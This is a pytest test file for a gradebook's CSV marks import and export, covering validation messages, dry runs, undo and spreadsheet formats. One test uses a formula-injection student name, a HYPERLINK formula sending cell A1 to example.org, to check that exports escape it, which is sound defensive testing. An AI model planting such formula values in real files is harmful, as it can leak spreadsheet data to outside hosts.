from collections.abc import Iterator
from pathlib import Path

import pytest

from grader.errors import UsageError
from grader.gradebook.book import Gradebook, open_book
from grader.gradebook.marks import import_marks, marks_csv

from .samples_for_books import HEADING, enter, only, record

ASHA = "Asha Rao,fashion-mnist"


@pytest.fixture
def book(tmp_path: Path) -> Iterator[Gradebook]:
    with open_book(tmp_path) as book:
        record(book, "Asha Rao", accuracy=None)
        yield book


def test_viva_marks_overrides_remarks_and_a_signature_are_entered_from_one_file(book: Gradebook, tmp_path: Path):
    rows = [f"{ASHA},sign-off,,Prof. Joshi", f"{ASHA},Viva,4.5,", f"{ASHA},accuracy,1.5,seen", f"{ASHA},,,good work"]
    assert enter(book, tmp_path, *rows) == []
    grade = only(book).grade
    assert (grade.total.marks, grade.total.pending, grade.remark) == (19, 0, "good work")
    assert (grade.signed.by, grade.signed.marks) == ("Prof. Joshi", 19)
    assert grade.columns["Answers"].criteria[1].remark == "seen"


def test_names_are_found_whatever_their_case_and_blanks(book: Gradebook, tmp_path: Path):
    assert enter(book, tmp_path, "  asha   RAO ,Fashion-MNIST,viva,4,") == []
    assert only(book).grade.columns["Viva"].marks == 4


@pytest.mark.parametrize(
    ("row", "sentence"),
    [
        ("Asha Roa,fashion-mnist,Viva,4,", "a student of the gradebook. Found `Asha Roa`. Did you mean `Asha Rao`?"),
        ("Asha Rao,fashion,Viva,4,", "Found `fashion`. Did you mean `fashion-mnist`?"),
        (f"{ASHA},Vivas,4,", "a column or a criterion of the record sheet. Found `Vivas`. Did you mean `Viva`?"),
        (f"{ASHA},Total,15,", "Found Total, their sum. Enter the columns instead."),
        (f"{ASHA},Viva,6,", "Expected marks from 0 to 5 for Viva. Found `6`. Mend the row."),
        (f"{ASHA},Viva,-1,", "Found `-1`"),
        (f"{ASHA},Viva,nan,", "Found `nan`"),
        (f"{ASHA},Viva,four,", "Found `four`"),
        (f"{ASHA},Viva,1e0,", "Found `1e0`"),
        (f"{ASHA},current-api,0,", "Found current-api, which is advice. Leave marks empty."),
        (f"{ASHA},,4,", "Expected a column beside marks. Found 4 and no column."),
        (f"{ASHA},Viva,-,", "Expected an entry for Viva to take back. Found none. Delete the row."),
        (f"{ASHA},sign-off,,Prof. Joshi", "Expected a record sheet without open marks to sign. Found 7 pending."),
        (f"{ASHA},sign-off,,", ""),
        (f"{ASHA},sign-off,5,Prof. Joshi", "Expected a sign-off with the name of who signs"),
        (f"{ASHA},Viva,,{'x' * 2001}", "Expected a remark of at most 2,000 characters. Found 2,001. Shorten it."),
    ],
)  # fmt: skip
def test_a_row_that_cannot_be_is_rejected_with_the_next_step(book: Gradebook, tmp_path: Path, row: str, sentence: str):
    rejected = enter(book, tmp_path, row)
    assert len(rejected) == bool(sentence)  # a row without marks and remark says nothing
    assert all(line.startswith("marks.csv, line 2: Expected ") and sentence in line for line in rejected)


def test_one_bad_row_keeps_all_others_out_and_each_bad_row_has_its_line(book: Gradebook, tmp_path: Path):
    before = only(book)
    rows = [f"{ASHA},Viva,4,", "Nobody,fashion-mnist,Viva,4,", f"{ASHA},accuracy,2,", f"{ASHA},Viva,5,"]
    lines = enter(book, tmp_path, *rows)
    assert [line.split(":")[0] for line in lines] == ["marks.csv, line 3", "marks.csv, line 5"]
    assert lines[1].endswith("Expected one row for Viva. Found another in line 2.")
    assert only(book) == before


def test_a_student_without_that_assignment_is_told_what_there_is(book: Gradebook, tmp_path: Path):
    record(book, "Bela Shah", "mnist")
    (line,) = enter(book, tmp_path, "Bela Shah,fashion-mnist,Viva,4,")
    assert "Expected a submission of Bela Shah for fashion-mnist. Found mnist. Grade it first." in line


def test_a_dry_run_says_what_would_be_done_and_does_nothing(book: Gradebook, tmp_path: Path):
    before, file = only(book), tmp_path / "marks.csv"
    file.write_text(f"{HEADING}{ASHA},Viva,4,\n{ASHA},honest-evaluation,0.5,copied\n")
    told = import_marks(book, file, dry_run=True)
    assert told.changes == [
        "Asha Rao, fashion-mnist: Viva: 4 of 5, was pending",
        "Asha Rao, fashion-mnist: honest-evaluation: 0.5 of 1, was 1; remark on honest-evaluation",
    ]
    assert only(book) == before


def test_what_was_entered_can_be_taken_back(book: Gradebook, tmp_path: Path):
    before = only(book)
    enter(book, tmp_path, f"{ASHA},Viva,4,well", f"{ASHA},accuracy,2,", f"{ASHA},sign-off,,Prof. Joshi")
    assert enter(book, tmp_path, f"{ASHA},Viva,-,-", f"{ASHA},accuracy,-,", f"{ASHA},sign-off,-,") == []
    assert only(book) == before


def test_what_is_exported_can_be_filled_in_and_imported(book: Gradebook, tmp_path: Path):
    name = '=HYPERLINK("http://example.org/"&A1)'
    record(book, name)
    file = tmp_path / "marks.csv"
    text = marks_csv(book)
    assert "\"'=HYPERLINK(" in text
    file.write_bytes(text.replace(",Viva,,", ",Viva,3,").replace(",accuracy,,", ',accuracy,"1,5",').encode())
    assert import_marks(book, file).rejected == []
    assert {each.grade.student: each.grade.total.marks for each in book.filed()} == {"Asha Rao": 17.5, name: 18}
    assert "Asha Rao,fashion-mnist,accuracy,1.5," in marks_csv(book)


@pytest.mark.parametrize(
    "data",
    [
        f"\ufeff{HEADING}{ASHA},Viva,4,".replace(",", ";").encode(),
        f"{HEADING}{ASHA},Viva,4,".replace(",", "\t").encode("utf-16"),
        f"Student,Assignment,Criterion,Marks\r\n\r\n,,,\r\n{ASHA},Viva,4\r\n".encode(),
        b'student,remark,marks,column,assignment\n"Asha\nRao","says ""hello"", goes",4,Viva,fashion-mnist',
    ],
)
def test_a_csv_is_read_as_spreadsheets_write_it(book: Gradebook, tmp_path: Path, data: bytes):
    file = tmp_path / "marks.csv"
    file.write_bytes(data)
    assert import_marks(book, file).rejected == []
    assert only(book).grade.columns["Viva"].marks == 4


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"name,marks\nAsha,4\n", "Found no column `student`. To begin with a file that has them"),
        (b"", "Found no column `student`"),
        ("student,assignment,column,marks\nÅsa,x,y,1".encode("cp1252"), "UTF-8. Found another encoding"),
        (b'student,assignment,column,marks\n"Asha" Rao,x,y,1\n', "Found in line 2"),
    ],
)
def test_a_file_that_is_no_such_csv_is_refused(book: Gradebook, tmp_path: Path, data: bytes, words: str):
    file = tmp_path / "marks.csv"
    file.write_bytes(data)
    with pytest.raises(UsageError, match=words):
        import_marks(book, file)
